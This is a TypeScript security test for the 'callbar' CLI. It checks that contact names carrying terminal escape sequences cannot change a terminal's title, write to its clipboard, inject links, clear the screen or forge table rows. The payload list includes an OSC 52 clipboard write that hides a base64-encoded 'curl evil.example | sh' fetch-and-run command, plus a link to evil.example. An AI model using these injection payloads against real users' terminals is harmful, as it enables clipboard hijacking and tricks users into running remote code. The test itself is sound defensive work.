/**
 * A coworker's contact names carrying terminal escape sequences, printed by `callbar` (search,
 * contacts list, dial, calls) against the simulator, and the output fed to a real terminal
 * emulator's parser (xterm.js, headless): the terminal's title, clipboard, links, bell and screen
 * must hold nothing a name injected, and each contact is one row. `--json` keeps each name exactly
 * as written. The table search runs the real bin (its stdout is the process's); the other commands
 * run inside the test's process (the same runCli and the same output, without a Node start each).
 */
import { parsePhoneNumber } from 'libphonenumber-js/max';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Terminal } from '@xterm/headless';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningSimulator } from '../../simulator/index';
import type { SearchResult } from '../../src-shared/contract';
import type { Contact, Phonebook } from '../../src-main/core/api/schemas';
import { openVault } from '../../src-main/core/vault/keytar-vault';
import { runCallbar, runCallbarInProcess } from '../support/cli-process';
import { issuedSession, startSim } from '../support/sim-harness';
import { recordFigure } from '../support/hardening/figures';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** What a coworker names contacts to attack whoever lists them; each ends up in one row. */
const HOSTILE_NAMES: Record<string, string> = {
  'OSC 52 clipboard write': `Clip Board${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`,
  'OSC 8 link': `Link ${ESC}]8;;https://evil.example/${ST}Click here${ESC}]8;;${ST}`,
  'OSC 0 title change': `Title Zero${ESC}]0;You have been hacked${BEL}`,
  'OSC 2 title change': `Title Two${ESC}]2;You have been hacked${ST}`,
  'screen clear': `Clear Screen${ESC}[2J${ESC}[3J${ESC}[H`,
  'conceal what follows': `Conceal ${ESC}[8mhidden text`,
  'forged row': `Forged Row\n4242  Payroll Hotline  +1 900 555 0100`,
  'C1 CSI and OSC': `Cee One\u009b2J\u009b8m\u009d0;C1 title\u009c`,
  bell: `Bell Ringer${BEL}${BEL}${BEL}`,
  'DCS request': `Device Control${ESC}P+q544e${ST}`,
  'carriage return overwrite': `Real Name\rFake Name`,
  'right-to-left override': `Ann \u202e1234 567 (Payroll)`,
};

/** Characters a terminal acts on (C0, DEL, C1) or that reorder text (bidi controls). */
// eslint-disable-next-line no-control-regex -- the control characters are what is looked for
const ACTING = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/;
const actingIn = (text: string) => text.match(new RegExp(ACTING, 'g'))?.length ?? 0;

interface Observed {
  titles: string[];
  clipboardWrites: string[];
  links: string[];
  bells: number;
  erases: number;
  concealed: number;
  deviceControl: number;
}

/** A headless xterm.js that notes everything the text made it do. */
function watchedTerminal() {
  const terminal = new Terminal({
    cols: 1000,
    rows: 60,
    scrollback: 10_000,
    convertEol: true,
    allowProposedApi: true,
  });
  const seen: Observed = {
    titles: [],
    clipboardWrites: [],
    links: [],
    bells: 0,
    erases: 0,
    concealed: 0,
    deviceControl: 0,
  };
  terminal.onTitleChange((title) => seen.titles.push(title));
  terminal.onBell(() => seen.bells++);
  terminal.parser.registerOscHandler(52, (data) => (seen.clipboardWrites.push(data), true));
  // Observed only: the terminal's own handling goes on (false), so a title or link would land.
  terminal.parser.registerOscHandler(8, (data) => (seen.links.push(data), false));
  terminal.parser.registerCsiHandler({ final: 'J' }, () => (seen.erases++, false));
  terminal.parser.registerDcsHandler({ intermediates: '+', final: 'q' }, () => {
    seen.deviceControl++;
    return true;
  });
  const write = (text: string) =>
    new Promise<void>((done) => terminal.write(Buffer.from(text, 'utf8'), done));
  /** Every line in the terminal, scrollback included; counts concealed cells on the way. */
  const lines = (): string[] => {
    const buffer = terminal.buffer.active;
    const result: string[] = [];
    const cell = buffer.getNullCell();
    for (let y = 0; y < buffer.length; y++) {
      const line = buffer.getLine(y)!;
      for (let x = 0; x < terminal.cols; x++) {
        if (line.getCell(x, cell)?.isInvisible()) seen.concealed++;
      }
      result.push(line.translateToString(true));
    }
    while (result.at(-1) === '') result.pop();
    return result;
  };
  return { terminal, seen, write, lines };
}

describe('a contact name cannot drive the terminal', () => {
  let sim: RunningSimulator;
  let env: NodeJS.ProcessEnv;
  let dataDir: string;
  const contacts: Contact[] = [];

  beforeAll(async () => {
    sim = await startSim({ contacts: 0 });
    dataDir = mkdtempSync(join(tmpdir(), 'callbar-terminal-injection-'));
    await openVault({ dataDir }).save(await issuedSession(sim, sim.users[0]!));
    env = { CALLBAR_DATA_DIR: dataDir, CALLBAR_BASE_URL: sim.base_url, CALLBAR_REGION: 'us' };

    // The coworker writes the contacts into a phonebook shared with the reader, over the API.
    const coworker = await issuedSession(sim, sim.users[1]!);
    const api = (path: string, init: RequestInit = {}) =>
      fetch(new URL(path, sim.base_url), {
        ...init,
        headers: {
          authorization: `Bearer ${coworker.access_token}`,
          'content-type': 'application/json',
        },
      });
    const books = (await (await api('v3/phonebook/phonebook/?page_size=100')).json()) as {
      results: Phonebook[];
    };
    const shared = books.results.find((book) => book.is_shared);
    expect(shared, 'a shared phonebook the coworker can write').toBeDefined();
    let index = 0;
    for (const name of Object.values(HOSTILE_NAMES)) {
      const response = await api('v3/phonebook/contact/', {
        method: 'POST',
        body: JSON.stringify({
          phonebook: shared!.id,
          display_name: name,
          number: `+1 415 555 01${String(10 + index).padStart(2, '0')}`,
          secondary_number: null,
          speed_dial: 300 + index,
          company: 'Hostile Corp',
        }),
      });
      expect(response.status, `${name}: ${await response.clone().text()}`).toBe(201);
      contacts.push((await response.json()) as Contact);
      index++;
    }
    expect((await runCallbarInProcess(['sync'], env)).code).toBe(0);
  }, 60_000);

  afterAll(async () => {
    await openVault({ dataDir }).clear();
    rmSync(dataDir, { recursive: true, force: true });
    await sim.close();
  });

  it('keeps every name exactly in --json', async () => {
    const run = await runCallbarInProcess(['search', 'hostile', '--limit', '100', '--json'], env);
    expect(run.code).toBe(0);
    // Nothing a terminal acts on goes out raw, in JSON either: it is escaped, and reads back the same.
    expect(run.stdout).not.toMatch(ACTING);
    const result = JSON.parse(run.stdout) as SearchResult;
    expect(result.hits.map((hit) => hit.contact.display_name).sort()).toEqual(
      contacts.map((contact) => contact.display_name).sort(),
    );
  });

  it('shows search, contacts list, dial and calls to a terminal as text, one row per contact', async () => {
    const { seen, write, lines } = watchedTerminal();
    const marker = 'Earlier output the screen must keep';
    await write(`${marker}\n`);

    let fed = '';
    let hostileCharacters = 0;
    const print = async (args: string[], start = runCallbarInProcess) => {
      const run = await start(args, env);
      expect(run.code, `${args.join(' ')}: ${run.stderr}`).toBe(0);
      const text = `${run.stdout}\n${run.stderr}`;
      fed += text;
      hostileCharacters += (text.match(/\\u00[0-9a-f]{2}|\\u20[0-9a-f]{2}/g) ?? []).length;
      await write(text);
      return run.stdout;
    };

    const searched = await print(['search', 'hostile', '--limit', '100'], runCallbar);
    const listed = await print(['contacts', 'list', '--all']);
    for (const contact of contacts) await print(['dial', String(contact.speed_dial)]);
    await print(['calls']);

    const screen = lines();
    // Nothing acted: no title, no clipboard, no link, no bell, no erase, nothing concealed.
    expect(seen).toEqual({
      titles: [],
      clipboardWrites: [],
      links: [],
      bells: 0,
      erases: 0,
      concealed: 0,
      deviceControl: 0,
    });
    // Nothing went out raw but the line breaks between lines.
    expect(fed.replace(/\n/g, '')).not.toMatch(ACTING);
    // What the terminal shows is what was printed, line for line: the earlier output is still there.
    const printed = [marker, ...fed.split('\n')].map((line) => line.trimEnd());
    while (printed.at(-1) === '') printed.pop();
    expect(screen).toEqual(printed);

    // One row per contact: the table's rows between its rule and the blank line before the count.
    const rows = (table: string) => {
      const all = table.split('\n');
      const start = all.findIndex((line) => /^-+ /.test(line)) + 1;
      return all.slice(start, all.indexOf('', start));
    };
    expect(rows(searched)).toHaveLength(contacts.length);
    expect(rows(listed)).toHaveLength(contacts.length);
    // The number of each row reads as a person reads it at home (national, issue 41), whatever its
    // name holds.
    for (const contact of contacts) {
      const shown = parsePhoneNumber(contact.number).formatNational();
      expect(rows(listed).filter((row) => row.includes(shown))).toHaveLength(1);
    }

    const namesHostile = Object.values(HOSTILE_NAMES).reduce(
      (sum, name) => sum + actingIn(name),
      0,
    );
    expect(hostileCharacters).toBeGreaterThanOrEqual(namesHostile * 3);
    recordFigure(
      'terminal: hostile contact names (12 attacks) printed by search, contacts list, dial, calls into xterm.js',
      contacts.length * 4,
    );
    recordFigure(
      'terminal: control/bidi characters in them, printed as \\uXXXX text',
      hostileCharacters,
    );
    recordFigure(
      'terminal: titles, clipboard writes, links, bells, erases, concealed cells, DCS, forged rows',
      0,
    );
  }, 120_000);
});
